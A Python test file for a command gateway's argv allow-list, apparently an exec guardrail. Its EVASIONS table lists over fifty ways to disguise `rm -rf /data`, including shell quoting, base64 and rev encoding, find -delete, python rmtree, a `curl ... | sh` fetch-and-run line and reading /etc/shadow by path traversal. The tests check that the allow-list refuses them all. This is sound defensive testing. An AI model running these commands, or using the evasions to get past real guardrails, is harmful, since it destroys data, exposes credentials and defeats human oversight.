"""Argv rules: what is inside an argv, and fifty ways round a rule that forbids `rm -rf`."""

import pytest

from gateway.policy.argv import ArgvRules, Program, is_shell, programs
from gateway.policy.command import CommandJudge
from gateway.policy.model import CommandRule

ALLOWED = ArgvRules((("ls", "**"), ("cat", "/var/log/*"), ("ps", "aux"), ("/opt/report", "--day", "?"), ()))


def names(*argv: str) -> list[str]:
    return [" ".join(program.argv) for program in programs(argv)]


@pytest.mark.parametrize(
    "argv",
    [
        ("ls",),
        ("ls", "-l", "/data"),
        ("/bin/ls", "-l"),
        ("/usr/bin/cat", "/var/log/app/today.log"),
        ("ps", "aux"),
        ("/opt/report", "--day", "7"),
    ],
)
def test_what_is_written_down_is_allowed(argv: tuple[str, ...]) -> None:
    assert ALLOWED.allows(argv, tty=False, stdin=False)


def test_nothing_is_allowed_on_a_terminal_or_with_stdin() -> None:
    assert not ALLOWED.allows(("ls",), tty=True, stdin=False)
    assert not ALLOWED.allows(("ls",), tty=False, stdin=True)


# argv, and whether the alert for typed lines sees it in the words joined by blanks
EVASIONS: list[tuple[tuple[str, ...], bool]] = [
    (("rm", "-rf", "/data"), True),
    (("/bin/rm", "-rf", "/data"), True),
    (("//bin//rm", "-rf", "/data"), True),
    (("../../bin/rm", "-rf", "/data"), True),
    (("busybox", "rm", "-rf", "/data"), True),
    (("env", "rm", "-rf", "/data"), True),
    (("env", "-i", "A=b", "rm", "-rf", "/data"), True),
    (("nohup", "rm", "-rf", "/data"), True),
    (("timeout", "5", "rm", "-rf", "/data"), True),
    (("sudo", "-u", "root", "rm", "-rf", "/data"), True),
    (("xargs", "rm", "-rf"), True),
    (("sh", "-c", "rm -rf /data"), True),
    (("/bin/bash", "-lc", "rm -rf /data"), True),
    (("sh", "-c", "ls; rm -rf /data"), True),
    (("sh", "-c", "ls && rm -rf /data"), True),
    (("sh", "-c", "r''m -rf /data"), True),
    (("sh", "-c", 'r"m" -rf /data'), True),
    (("sh", "-c", "r\\m -rf /data"), True),
    (("sh", "-c", "rm${IFS}-rf${IFS}/data"), True),
    (("sh", "-c", "rm  \t -rf /data"), True),
    (("sh", "-c", "rm -r -f /data"), False),
    (("sh", "-c", "rm --recursive --force /data"), False),
    (("sh", "-c", "rm -fr /data"), False),
    (("sh", "-c", "a=rm; $a -r$b /data"), False),
    (("sh", "-c", "$(echo rm) -rf /data"), False),
    (("sh", "-c", "`echo rm` -rf /data"), False),
    (("sh", "-c", "echo cm0gLXJmIC9kYXRh | base64 -d | sh"), False),
    (("sh", "-c", "printf '\\x72\\x6d -rf /data' | sh"), False),
    (("sh", "-c", "echo 'atad/ fr- mr' | rev | sh"), False),
    (("sh", "-c", "eval \"$(tr a-z b-za <<< 'ql -qe')\""), False),
    (("sh", "-c", "curl -s http://a.example/x | sh"), False),
    (("sh", "-c", "/b?n/r? -rf /data"), False),
    (("sh", "-c", "r{m,} -rf /data"), False),
    (("sh", "-c", "rm$u -rf /data"), False),
    (("sh", "-c", 'x() { rm "$@"; }; x -rf /data'), False),
    (("sh", "-c", "find /data -delete"), False),
    (("find", "/data", "-delete"), False),
    (("find", "/data", "-exec", "rm", "{}", ";"), False),
    (("python3", "-c", "import shutil; shutil.rmtree('/data')"), False),
    (("perl", "-e", "unlink glob '/data/*'"), False),
    (("awk", 'BEGIN{system("rm -r /data")}'), False),
    (("tar", "-cf", "/dev/null", "--remove-files", "/data"), False),
    (("sh", "/tmp/script.sh"), False),
    (("sh",), False),
    (("bash", "-i"), False),
    (("/tmp/ls",), False),
    (("./ls",), False),
    (("ls\n",), False),
    (("LS",), False),
    (("cat", "/var/log/../../etc/shadow"), False),
    (("cat", "/var/log/a", "/etc/shadow"), False),
    (("cat",), False),
    (("ps", "aux", "--x"), False),
    (("/opt/report", "--day", "77"), False),
    (("/usr/bin/../../tmp/ls",), False),
    ((), False),
]


def test_there_are_fifty_evasions() -> None:
    assert len(EVASIONS) >= 50


@pytest.mark.parametrize(("argv", "_is_alerted"), EVASIONS)
def test_the_allow_list_refuses_every_evasion(argv: tuple[str, ...], _is_alerted: bool) -> None:
    assert not ALLOWED.allows(argv, tty=False, stdin=False)


@pytest.mark.parametrize(("argv", "is_alerted"), EVASIONS)
def test_patterns_for_typed_lines_see_only_the_plain_ones(argv: tuple[str, ...], is_alerted: bool) -> None:
    """That is why they alert and do not protect: docs/exec-guardrails.md."""
    judge = CommandJudge((CommandRule("pack/rm", r"\brm\s+-rf\b", "alert"),))
    assert (judge.judge(" ".join(argv)) is not None) is is_alerted


# --- what is inside -------------------------------------------------------------------------------


def test_a_program_is_named_without_its_directories() -> None:
    assert programs(("/usr/bin/rm", "-rf")) == (Program(("rm", "-rf")),)
    assert names("-bash")[0] == "bash"
    assert programs(()) == ()


def test_wrappers_are_looked_through() -> None:
    assert "rm -rf /" in names("sudo", "-u", "root", "env", "A=b", "rm", "-rf", "/")
    assert "rm -rf /" in names("timeout", "-k", "5", "10", "nice", "-n", "5", "rm", "-rf", "/")
    assert names("env") == ["env"]


def test_the_commands_of_a_shell_text_are_shown() -> None:
    assert names("sh", "-ec", "A=b ls -l && if rm x; then (id); fi | wc") == [
        "sh -ec A=b ls -l && if rm x; then (id); fi | wc",
        "ls -l",
        "rm x",
        "id",
        "wc",
    ]


@pytest.mark.parametrize(
    "argv",
    [
        ("sh",),
        ("sh", "script.sh"),
        ("sh", "--login"),
        ("sh", "-c"),
        ("sh", "-c", "$x"),
        ("sh", "-c", "echo 'open"),
        ("sh", "-c", "true;" * 100),
    ],
)
def test_a_shell_whose_words_cannot_be_followed_is_opaque(argv: tuple[str, ...]) -> None:
    assert programs(argv)[0].is_opaque


def test_what_can_be_read_of_an_opaque_text_is_shown() -> None:
    found = programs(("sh", "-c", "rm -rf $x"))
    assert found == (Program(("sh", "-c", "rm -rf $x"), True), Program(("rm", "-rf", "$x")))


def test_nesting_and_number_are_bounded() -> None:
    assert programs(("env",) * 9)[-1].is_opaque
    assert len(programs(("sh", "-c", "true;" * 1000))) == 64


def test_a_shell_without_text_reads_commands() -> None:
    assert is_shell(("bash",))
    assert is_shell(("env", "sh", "-i"))
    assert not is_shell(("sh", "-c", "ls"))
    assert not is_shell(("ls",))
